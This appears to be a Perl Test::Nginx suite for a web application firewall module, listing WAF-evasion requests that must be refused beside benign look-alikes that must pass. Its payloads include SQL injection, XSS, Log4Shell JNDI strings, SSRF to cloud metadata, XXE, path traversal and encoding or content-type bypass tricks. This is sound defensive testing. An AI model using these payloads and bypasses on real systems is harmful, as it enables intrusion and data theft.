# Ways around a WAF, each class as requests that are refused and others that
# look like them and pass.  Under api_waf core; over HTTP/2 once more in
# bypass-http2.t; what is about chunks is in bypass-chunks.t.

use Test::Nginx::Socket 'no_plan';
use ApiTest;
use IO::Compress::Gzip ();

# "--- refused" and "--- passed": requests separated by lines of two dots, each
# a line "METHOD PATH", header lines, an empty line, a body as it is.  A status
# in front of the method is another than 403.

custom_sections('refused', 'passed');

sub requests {
    my ($block, $section) = @_;
    my $text = $block->$section // '';
    my @found;

    for my $one (split /^\.\.\n/m, $text) {
        my ($head, $body) = split /\n\n/, $one, 2;
        my ($line, @fields) = split /\n/, $head;
        my $status = $line =~ s/^(\d+) // ? $1 : $section eq 'refused' ? 403 : 200;

        $body //= '';
        $body =~ s/\n\z// if $body !~ /\r\n\z/;
        push @fields, 'Content-Length: ' . length $body if length $body;
        push @found, [$status, length $body ? "$line\n$body" : $line,
            join "\n", 'Host: localhost', @fields];
    }

    return @found;
}

add_block_preprocessor(sub {
    my ($block) = @_;
    my @all = map { requests($block, $_) } 'refused', 'passed';

    $block->set_value(http_config => ($block->http_config // '') . <<'END');
    server {
        listen 127.0.0.1:$TEST_NGINX_RAND_PORT_1;
        access_log off;
        return 200 "up\n";
    }
END
    $block->set_value(config => ($block->config // '') . <<'END');
    location / {
        api_waf core;
        proxy_pass http://127.0.0.1:$TEST_NGINX_RAND_PORT_1;
    }
END
    $block->set_value(request => [map { $_->[1] } @all]);
    $block->set_value(more_headers => [map { $_->[2] } @all]);
    $block->set_value(error_code => [map { $_->[0] } @all]);
    $block->set_value(no_error_log => '[alert]');
});

# Multipart by the parameters of its type; a part by those of its header.

sub mp {
    my ($type, $text) = @_;
    return "POST /\nContent-Type: multipart/form-data; $type\n\n$text";
}

sub part {
    my ($how, $text) = @_;
    return "--b\r\nContent-Disposition: form-data; $how\r\n\r\n$text\r\n--b--\r\n";
}

sub packed {
    my ($in) = @_;
    IO::Compress::Gzip::gzip(\$in, \my $out, Time => 1);
    return $out;
}

no_root_location();
run_tests();

__DATA__

=== TEST 1: JSON in SQL
--- refused
GET /?q=1%20and%20'%7B%22a%22:1%7D'::jsonb%20@%3E%20'%7B%22a%22:1%7D'
..
POST /
Content-Type: application/json

{"q":"x' or json_keys('{\"a\":1}') like '%a%'--"}
..
POST /
Content-Type: application/json

{"q":"1 or data->>'a'='1'"}
..
POST /
Content-Type: application/x-www-form-urlencoded

q=1+or+openjson('[]')=1
--- passed
POST /
Content-Type: application/json

{"q":"{\"a\":1}","r":"data -> a, or b"}



=== TEST 2: JSON under another name
--- refused
POST /
Content-Type: text/plain

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/octet-stream

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/JSON

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/vnd.api+json; charset=utf-8

{"q":"1' or '1'='1"}
..
POST /

{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/x-unknown

  {"q":"1' or '1'='1"}
--- passed
POST /
Content-Type: text/plain

{"q":"O'Brien"}
..
POST /
Content-Type: application/vnd.api+json

{"q":"O'Brien"}
..
POST /

just text, it's fine



=== TEST 3: a form under another name, another body under the name of a form
--- refused
POST /
Content-Type: application/x-www-form-urlencoded

{"url":"file:///etc/passwd"}
..
POST /
Content-Type: application/x-ndjson

{"a":1}
{"a":"http://169.254.169.254/latest/"}
..
POST /
Content-Type: application/octet-stream

{"index":{}}
{"q":"1' or '1'='1"}
..
POST /
Content-Type: application/xml

<a b="{{7*7}}"/>
..
POST /
Content-Type: application/x-www-form-urlencoded; charset=utf-8

q=1'+or+'1'='1
..
POST /
Content-Type: APPLICATION/X-WWW-FORM-URLENCODED

q=1'+or+'1'='1
..
POST /
Content-Type: application/x-www-form-urlencoded

{"q":"1' or '1'='1"}
--- passed
POST /
Content-Type: application/x-www-form-urlencoded

q=O'Brien&{"q":"x"}
..
POST /
Content-Type: application/x-ndjson

{"name":"O'Brien & Sons"}
{"url":"https://example.org/"}
..
POST /
Content-Type: application/xml

<a b="{{name}}"/>



=== TEST 4: multipart as readers read it differently
--- refused eval
my $h = "POST /\nContent-Type: multipart/form-data; boundary=AbC\n\n";
my $p = "Content-Disposition: form-data; name=\"q\"";
my $bad = "1' or '1'='1";
CORE::join("..\n",
    "$h--AbC\r\n$p\r\n\r\n$bad\r\n--AbC--\r\n",
    "400 $h--AbC\n$p\n\nx\n--AbC--\n",
    "400 $h--AbC\r\nContent-Disposition: form-data;\r\n name=\"q\"\r\n\r\nx\r\n--AbC--\r\n",
    "400 $h--AbC\r\n$p\r\n\r\nx\r\n",
    "400 ${h}--AbC\r\nContent-Disposition: form-data; name=q; name=\"r\"\r\n\r\nx\r\n--AbC--\r\n",
    "400 POST /\nContent-Type: multipart/form-data; boundary=AbC; boundary=x\n\n--AbC\r\n$p\r\n\r\nx\r\n--AbC--\r\n",
    "400 POST /\nContent-Type: multipart/form-data\n\n--AbC\r\n$p\r\n\r\nx\r\n--AbC--\r\n",
    "${h}--AbC\r\n$p; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--AbC--\r\n")
--- passed eval
"POST /\nContent-Type: multipart/form-data; boundary=AbC\n\n--AbC\r\n"
. "Content-Disposition: form-data; name=\"q\"\r\n\r\nO'Brien\r\n--AbC\r\n"
. "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n"
. "Content-Type: image/png\r\n\r\nx\r\n--AbC--\r\n"



=== TEST 5: JSON as readers read it differently
--- refused eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    "400 $h" . '{"a":"x","a":"y"}',
    "400 $h" . '{"a":1} // x',
    "400 $h" . '{"a":/* x */1}',
    "400 $h" . '{"a":1}{"a":2}',
    "400 $h" . "{'a':1}",
    "400 $h" . '{"a":"\ud800"}',
    "400 $h" . "\xff\xfe{\0}\0",
    "400 $h" . '{"a":NaN}',
    "400 $h" . '{"a":1,}',
    $h . '{"a":"\u0031\u0027 or \u00271\u0027=\u00271"}',
    $h . '{"1\u0027 or 1=1--":"x"}',
    $h . '[[[[["1\' or \'1\'=\'1"]]]]]')
--- passed eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    $h . '{"a":"x","A":"y","b":1e5,"c":"\u00e9\ud83d\ude00"}',
    $h . '[[[[["1"]]]]]', $h . '"text"', $h . '12345678901234567890123')



=== TEST 6: XML
--- refused
POST /
Content-Type: application/xml

<!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>
..
POST /
Content-Type: application/xml

<a><![CDATA[1' or '1'='1]]></a>
..
POST /
Content-Type: text/xml

<a b="1' or '1'='1"/>
..
POST /
Content-Type: application/soap+xml

<a xmlns="x"><b>&#49;&#39; or &#39;1&#39;=&#39;1</b></a>
..
400 POST /
Content-Type: application/xml

<a><b></a>
--- passed
POST /
Content-Type: application/xml

<?xml version="1.0"?><a b="c"><![CDATA[O'Brien]]>&amp;</a>



=== TEST 7: size
--- refused eval
my $pad = 'x' x 200_000;
my $many = CORE::join '&', map { "a$_=1" } 1 .. 900;
CORE::join("..\n",
    "POST /\nContent-Type: application/json\n\n{\"p\":\"$pad\",\"q\":\"1' or '1'='1\"}\n",
    "POST /\nContent-Type: application/x-www-form-urlencoded\n\np=$pad&q=1'+or+'1'='1\n",
    "POST /\nContent-Type: application/x-www-form-urlencoded\n\n$many&q=1'+or+'1'='1\n",
    "POST /\nContent-Type: application/json\n\n{\"q\":\"" . ' ' x 100_000 . "1' or '1'='1\"}\n",
    "GET /\nCookie: " . CORE::join('; ', map { "c$_=1" } 1 .. 100) . "; q=1%27 or %271%27=%271\n",
    "403 POST /\nContent-Type: application/x-www-form-urlencoded\n\n"
        . CORE::join('&', map { "a$_=1" } 1 .. 1100) . "\n")
--- passed eval
my $pad = 'x' x 200_000;
"POST /\nContent-Type: application/json\n\n{\"p\":\"$pad\",\"q\":\"O'Brien\"}\n"



=== TEST 8: encodings
--- refused eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=1%2520or%25201%253D1",
    "GET /?q=1%u0020or%u00201%u003d1",
    "GET /?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
    "GET /?q=%C0%BCscript%C0%BE<script>",
    "GET /?q=1'%0Bor%0C'1'='1",
    "GET /?q=1'%a0or%a0'1'='1",
    "GET /?q=1%00'or'1'='1",
    "GET /?q=%3Ca%20href=%22java%26%23x09;script:alert(1)%22%3E",
    "415 POST /\nContent-Type: application/json; charset=ibm037\n\n{\"a\":1}",
    "415 POST /\nContent-Type: application/json; charset=\"utf-7\"\n\n{\"a\":1}",
    "415 POST /\nContent-Type: application/json\nContent-Encoding: gzip\n\n\x1f\x8b",
    "POST /\nContent-Type: application/json\n\n{\"a\":\"MScgb3IgJzEnPScxIC0tIHg=\"}")
--- passed eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=100%2525", "GET /?q=%EF%BC%A1%EF%BC%A2", "GET /?q=caf%C3%A9%20or%20bar",
    "POST /\nContent-Type: application/json; charset=UTF-8\n\n{\"a\":\"aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91\"}")



=== TEST 9: places
--- refused eval
CORE::join("..\n", map { "$_\n" }
    "GET /orders/1'%20or%20'1'='1",
    "GET /orders/1%2527%2520or%25201=1",
    "GET /orders;id=1%20union%20select%201,2/x",
    "GET /orders/1;drop%20table%20x",
    "GET /\nX-Forwarded-For: 1' or '1'='1",
    "GET /\nAuthorization: Basic YWRtaW4nLS06eA==",
    "GET /\nX-Original-URL: /admin",
    "GET /?q=1&q=x'%20or%20'a'='a",
    "GET /?user[\$ne]=x",
    "GET /?__proto__[x]=1",
    "GET /\nUser-Agent: \${\${lower:j}ndi:ldap://x.example/}",
    "GET /?u=http://169.254.169.254/latest/meta-data/",
    "GET /?u=http://[::ffff:a9fe:a9fe]/",
    "GET /?t={{7*7}}")
--- passed eval
CORE::join("..\n", map { "$_\n" }
    "GET /orders/1;v=2/x", "GET /orders/O%27Brien", "GET /\nX-Forwarded-For: 1.2.3.4",
    "GET /\nAuthorization: Basic YWRtaW46eA==", "GET /?q=1&q=2", "GET /?user[name]=x",
    "GET /?proto[x]=1", "GET /?u=https://example.com/latest/x", "GET /?t={{name}}")



=== TEST 10: GraphQL
--- refused
POST /graphql
Content-Type: application/json

{"query":"{user(id:\"1' or '1'='1\"){name}}"}
..
POST /graphql
Content-Type: application/graphql

{user(id:"1' or '1'='1"){name}}
..
POST /graphql
Content-Type: application/json

{"query":"query($i:ID!){user(id:$i){name}}","variables":{"i":"1' or '1'='1"}}
..
GET /graphql?query=%7Buser(id:%221'%20or%20'1'='1%22)%7Bname%7D%7D
--- passed
POST /graphql
Content-Type: application/json

{"query":"query($i:ID!){user(id:$i){name}}","variables":{"i":"O'Brien"}}
..
GET /graphql?query=%7Buser(id:%225%22)%7Bname%7D%7D



=== TEST 11: values that patterns are slow on are over soon
--- refused eval
"POST /\nContent-Type: application/json\n\n{\"q\":\"" . '${' x 20000 . "\"}\n"
--- passed eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
    '{{' x 20000, '<a ' x 20000, 'a@' x 20000, '(a)(b' x 10000, '. ' x 20000,
    'query{' x 10000)



=== TEST 12: JSON in SQL, by every database
--- refused eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
    q(1 or json_extract('{\"a\":1}','$.a')=1),
    q(' or json_keys('{\"a\":1}') is not null-- -),
    q(' or json_depth('{}') > 0-- -),
    q(' or data #> '{a,b}' = 'x'--),
    q(' or '{\"a\":1}'::jsonb <@ '{\"a\":1}'::jsonb--),
    q(1 union select * from openjson('[1]')),
    q(' union select name from users for json auto--),
    q(' or data ? 'a'--))
--- passed eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"q\":\"$_\"}\n" }
    q({\"a\":1}), q(json extract of 'it'), q(a -> b ->> c), q($.items[0].a),
    q(for json, or for xml?))



=== TEST 13: types that stand oddly
--- refused eval
my $bad = '{"q":"1\' or \'1\'=\'1"}';
my $part = "--b\r\nContent-Type: application/json\r\n\r\n$bad\r\n--b--\r\n";
CORE::join("..\n", map { "$_\n" }
    "400 POST /\nContent-Type: text/plain\nContent-Type: application/json\n\n{}",
    "POST /\nContent-Type: text/plain\nContent-Type: application/json\n\n$bad",
    "POST /\nContent-Type:   application/json\n\n$bad",
    "POST /\nContent-Type: application/json;\n\n$bad",
    "POST /\nContent-Type: application/json/x\n\n$bad",
    "POST /\nContent-Type: json\n\n$bad",
    "POST /\nContent-Type: text/json\n\n$bad",
    "POST /\nContent-Type: application/x-json+x\n\n$bad",
    "POST /\nContent-Type: application/yaml\n\n$bad",
    "POST /\nContent-Type: multipart/mixed; boundary=b\n\n$part",
    "POST /\nContent-Type: multipart/related; boundary=b\n\n$part",
    "POST /\nContent-Type: multipart/form-data; boundary=b\n\nq=1%27+or+%271%27=%271",
    "POST /\nContent-Type: application/x-www-form-urlencoded\n\n--b\r\n"
        . "Content-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--b--\r\n",
    "POST /\nContent-Type: application/json\n\nq=1%27+or+%271%27=%271")
--- passed eval
my $good = '{"q":"O\'Brien"}';
CORE::join("..\n", map { "$_\n" }
    "POST /\nContent-Type:   application/json\n\n$good",
    "POST /\nContent-Type: application/json;\n\n$good",
    "POST /\nContent-Type: text/json\n\n$good",
    "POST /\nContent-Type: application/yaml\n\n$good",
    "POST /\nContent-Type: multipart/mixed; boundary=b\n\n"
        . "--b\r\nContent-Type: application/json\r\n\r\n$good\r\n--b--\r\n")



=== TEST 14: parameters of multipart, and what is in the headers of a part
--- refused eval
my $q = "1' or '1'='1";
CORE::join("..\n",
    "400 " . main::mp('boundary="b"', main::part('name="q"', 'x')),
    "400 " . main::mp('boundary=b ', main::part('name="q"', 'x')) =~ s/b \n/b ;x\n/r,
    "400 " . main::mp('boundary*0=b', main::part('name="q"', 'x')),
    "400 " . main::mp('boundary*=utf-8\'\'b', main::part('name="q"', 'x')),
    "400 " . main::mp('boundary=a; boundary=b', main::part('name="q"', 'x')),
    "400 " . main::mp('boundary=b', main::part("name=\"q\0\"", 'x')),
    "400 " . main::mp('boundary=b', main::part("name='q'", 'x')),
    main::mp('boundary=b', main::part('name="x"; filename*=utf-8\'\'..%2f..%2fetc%2fpasswd; filename="a"', 'x')) =~ s/^/400 /r,
    main::mp('boundary=b', main::part('name="q"; filename=""', $q)),
    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: text/plain; charset=utf-8", $q)),
    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: application/json", '{"q":"' . $q . '"}')),
    main::mp('boundary=b', main::part('name="q"', "x\r\n--c\r\n$q")) =~ s/^//r)
--- passed eval
CORE::join("..\n",
    main::mp('boundary=b', main::part('name="q"; filename=""', "O'Brien")),
    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: text/plain; charset=utf-8", "O'Brien")),
    main::mp('boundary=b', main::part("name=\"q\"\r\nContent-Type: application/json", '{"q":"O\'Brien"}')),
    main::mp('boundary=b', main::part('name="q"', "x\r\n-- c\r\nit's")))



=== TEST 15: JSON: a mark in front, another encoding, numbers, depth
--- refused eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    "400 $h\xef\xbb\xbf{\"a\":1}",
    "400 $h" . CORE::join('', map { "$_\0" } split //, '{"a":1}'),
    "400 $h" . '{"a":01}',
    "400 $h" . '{"a":1}]',
    "400 $h" . '{"a":' . '[' x 600 . '1' . ']' x 600 . '}',
    "400 $h" . "{\"a\":\"x\xc0\xa7\"}",
    "400 $h" . "{\"a\":\"x\ty\"}",
    $h . '{"a":[[[{"b":"' . "1' or '1'='1" . '"}]]]}',
    $h . '{"a":"x","\u0061b":"' . "1' or '1'='1" . '"}')
--- passed eval
my $h = "POST /\nContent-Type: application/json\n\n";
CORE::join("..\n", map { "$_\n" }
    $h . '{"a":123456789012345678901234567890,"b":-1.5e300}',
    $h . '{"a":' . '[' x 60 . '1' . ']' x 60 . '}',
    $h . '{"a":"x\ty"}')



=== TEST 16: XML in other encodings
--- refused eval
my $h = "POST /\nContent-Type: application/xml\n\n";
my $utf16 = CORE::join '', map { "\0$_" } split //, "<?xml version=\"1.0\"?><a>1' or '1'='1</a>";
CORE::join("..\n", map { "$_\n" }
    "$h\xfe\xff$utf16",
    "$h<a>1' or<b/> '1'='1</a>",
    "$h<a><b>1&#x27; or &#x27;1&#x27;=&#x27;1</b></a>",
    "$h<a><?php system('id') ?></a>",
    "400 $h<a>" . '<b>' x 200 . '</b>' x 200 . '</a>',
    "$h<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>",
    "$h<!DOCTYPE a [<!ENTITY % p \"<!ENTITY q 'x'>\"> %p;]><a/>")
--- passed eval
my $h = "POST /\nContent-Type: application/xml\n\n";
CORE::join("..\n", map { "$_\n" }
    "$h\xfe\xff" . CORE::join('', map { "\0$_" } split //, '<?xml version="1.0"?><a>x</a>'),
    "$h<a>it's<b/> one</a>",
    "$h<a>" . '<b>' x 20 . '</b>' x 20 . '</a>',
    "$h<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><a>caf\xe9</a>")



=== TEST 17: an attack in the pieces of two parameters
--- refused eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=1%20union/*&q=*/select%201,2",
    "GET /?a=1%20union/*&b=*/select%201,2%20from%20users",
    "GET /?q=%3Cscript&q=%3Ealert(1)%3C/script%3E",
    "GET /?q=1'/*&q=*/or/*&q=*/'1'='1",
    "POST /?q=1'/*\nContent-Type: application/x-www-form-urlencoded\n\nq=*/or'1'='1")
--- passed eval
CORE::join("..\n", map { "$_\n" }
    "GET /?q=union&q=select", "GET /?a=script&b=alert", "GET /?q=1&q=2&q=3")



=== TEST 18: escapes of the languages within
--- refused eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"a\":\"$_\"}\n" }
    '<a href=\"jav&#x61;script:alert(1)\">', '<a href=\"java\nscript:alert(1)\">',
    '<p style=\"width:e\\\\78pression(alert(1))\">', '<svg><script>&#97;lert(1)</script>',
    '\u003cscript\u003ealert(1)\u003c/script\u003e', '\\\\u003cscript>alert(1)</script>',
    '%3Cscript%3Ealert(1)%3C/script%3E', '%u003cscript%u003ealert(1)',
    '${${env:X:-j}ndi:ldap://x.example/}', '$%7Bjndi:ldap://x.example/a}')
--- passed eval
CORE::join("..\n", map { "POST /\nContent-Type: application/json\n\n{\"a\":\"$_\"}\n" }
    'a &lt; b &amp; c', 'width: 10px', '\u003c 3', '100%25', 'env:X and :-)')



=== TEST 19: bodies that are packed
--- config
    api_body_decode gzip max=64k ratio=100;
--- refused eval
my $h = "POST /\nContent-Type: application/json\nContent-Encoding";
CORE::join("..\n",
    "$h: gzip\n\n" . main::packed(q({"q":"1' or '1'='1"})) . "\n",
    "$h: GZIP\n\n" . main::packed(q({"q":"1' or '1'='1"})) . "\n",
    "415 $h: deflate\n\nx\n", "415 $h: br\n\nx\n", "415 $h: gzip, gzip\n\nx\n",
    "415 $h: gzip\nContent-Encoding: identity\n\nx\n")
--- passed eval
my $h = "POST /\nContent-Type: application/json\nContent-Encoding";
"$h: gzip\n\n" . main::packed(q({"q":"O'Brien"}))
